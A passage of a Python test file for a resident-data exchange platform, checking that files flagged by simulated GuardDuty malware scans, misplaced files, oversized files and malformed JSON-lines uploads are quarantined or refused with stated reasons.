    lines = raw_rows(env)
    from_api = json.loads(next(line for line in lines if line.startswith("{")))
    from_file = next(line for line in lines if line.startswith("r-1")).split(",")
    assert from_api["resident_code"] == from_file[1] == token(env, code)
    assert from_api["name"] == from_file[2] == token(env, name)


# ----- 6. malware protection and the inbox -----


def scan_event(key: str, version: str, status: str, threats=None) -> dict:
    return {
        "detail-type": "GuardDuty Malware Protection Object Scan Result",
        "source": "aws.guardduty",
        "detail": {
            "schemaVersion": "1.0",
            "scanStatus": "COMPLETED" if status in ("NO_THREATS_FOUND", "THREATS_FOUND") else status,
            "resourceType": "S3_OBJECT",
            "s3ObjectDetails": {"bucketName": "exchange", "objectKey": key, "versionId": version},
            "scanResultDetails": {"scanResultStatus": status, "threats": threats},
        },
    }


def scanning(env):
    return linkage.Settings(exchange_bucket="exchange", raw_bucket="raw", mac_key_id=env["key"], event_bus="linkage",
                            malware_scan=True)  # fmt: skip


def test_an_infected_file_is_quarantined_and_its_producer_notified(env) -> None:
    key = "inbox/resident-list/resident-registry/list.csv"
    version = upload(env, key, resident_list(list_row()))["detail"]["object"]["version-id"]
    env["s3"].put_object_tagging(Bucket="exchange", Key=key, VersionId=version,
                                 Tagging={"TagSet": [{"Key": "GuardDutyMalwareScanStatus", "Value": "THREATS_FOUND"}]})  # fmt: skip
    result = handle(
        env, scan_event(key, version, "THREATS_FOUND", [{"name": "EICAR-Test-File (not a virus)"}]), scanning(env)
    )
    assert result["status"] == "quarantined"
    assert (
        result["reason"]
        == "the malware scan did not find the file clean: THREATS_FOUND (EICAR-Test-File (not a virus))"
    )
    assert keys(env["s3"], "raw") == [] and keys(env["s3"], "exchange", "outbox/") == []
    assert env["s3"].list_object_versions(Bucket="exchange", Prefix="inbox/").get("Versions", []) == []
    (notice,) = notices(env, "resident-registry")
    assert notice["reason"] == result["reason"] and notice["dataset"] == "resident-list"
    assert notice["quarantine"] == result["quarantined"]


def test_with_scanning_on_only_a_clean_scan_result_of_a_clean_tagged_object_is_read(env) -> None:
    key = "inbox/resident-list/resident-registry/list.csv"
    created = upload(env, key, resident_list(list_row()))
    assert handle(env, created, scanning(env)) == {"status": "ignored"}  # the upload event itself: not yet scanned
    version = created["detail"]["object"]["version-id"]
    untagged = handle(env, scan_event(key, version, "NO_THREATS_FOUND"), scanning(env))
    assert untagged["status"] == "quarantined" and "does not carry the malware scan tag" in untagged["reason"]
    key2 = "inbox/resident-list/resident-registry/list2.csv"
    version2 = upload(env, key2, resident_list(list_row()))["detail"]["object"]["version-id"]
    env["s3"].put_object_tagging(Bucket="exchange", Key=key2, VersionId=version2,
                                 Tagging={"TagSet": [{"Key": "GuardDutyMalwareScanStatus", "Value": "NO_THREATS_FOUND"}]})  # fmt: skip
    assert handle(env, scan_event(key2, version2, "NO_THREATS_FOUND"), scanning(env))["status"] == "accepted"
    key3 = "inbox/resident-list/resident-registry/list3.csv"
    version3 = upload(env, key3, resident_list(list_row()))["detail"]["object"]["version-id"]
    unsupported = handle(env, scan_event(key3, version3, "UNSUPPORTED"), scanning(env))
    assert unsupported["reason"] == "the malware scan did not find the file clean: UNSUPPORTED"


def test_files_outside_a_producers_own_dataset_folder_are_quarantined(env) -> None:
    content = resident_list(list_row())
    unknown = file(env, "inbox/no-such/resident-registry/a.csv", content)
    assert unknown["status"] == "quarantined" and unknown["reason"] == "the folder names no dataset of the platform"
    wrong = file(env, "inbox/resident-list/tax/a.csv", content)
    assert wrong["reason"] == "only the producer 'resident-registry' may send files of 'resident-list'"
    odd = file(env, "inbox/resident-list/resident-registry/住民一覧.csv", content)
    assert odd["reason"].startswith("unexpected object name") and "住民一覧" not in odd["reason"]
    assert keys(env["s3"], "raw") == []


def test_a_file_larger_than_one_run_can_read_is_refused_with_a_reason(env, monkeypatch) -> None:
    from linkage_platform import sources

    monkeypatch.setattr(sources, "MAX_FILE_BYTES", 100)
    result = file(env, "inbox/resident-list/resident-registry/list.csv", resident_list(list_row()))
    assert result["status"] == "quarantined" and result["reason"].endswith("split it into several files")
    assert keys(env["s3"], "raw") == []


def test_json_lines_files_stream_and_blank_lines_are_skipped(env) -> None:
    lines = "\n".join(json.dumps(m, ensure_ascii=False) for m in MOVES) + "\n\n"
    result = file(env, "inbox/moves-lines/resident-registry/moves.jsonl", lines.encode())
    assert result["status"] == "accepted" and result["accepted"] == 2
    assert result["outbox_key"].endswith(".jsonl") and result["raw_key"].endswith(".jsonl.gz")
    bad = file(env, "inbox/moves-lines/resident-registry/bad.jsonl", (lines + "{not json\n").encode())
    assert bad["reason"] == "line 3: not valid JSON (one record per line)"
